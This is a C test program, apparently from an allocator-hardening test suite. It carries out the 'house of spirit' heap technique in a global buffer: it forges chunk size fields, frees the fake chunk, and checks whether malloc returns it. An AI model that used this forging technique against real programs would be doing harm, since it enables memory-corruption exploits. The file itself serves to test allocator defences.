/* house_of_spirit_global — the same fake chunk as house_of_spirit, in a global buffer: an
 * address in the program's data segment, near the executable's own objects.
 * SILENT: malloc returns the fake chunk within 4096 allocations. */
#include "attack.h"

static size_t fake[32] __attribute__((aligned(64)));

int main(void) {
  size_t *mem = &fake[8];
  mem[-1] = 0x51; /* size 0x50 | PREV_INUSE */
  mem[9] = 0x51;  /* the next chunk's size */
  free(opaque(mem));
  void *r = hunt_for(ATTACK_SIZE, HUNT_MAX, fake, sizeof fake);
  if (r) silent("malloc returned %p, the fake chunk in a global", r);
  check_heap(ATTACK_SIZE, "after freeing a fake global chunk");
  intact();
}
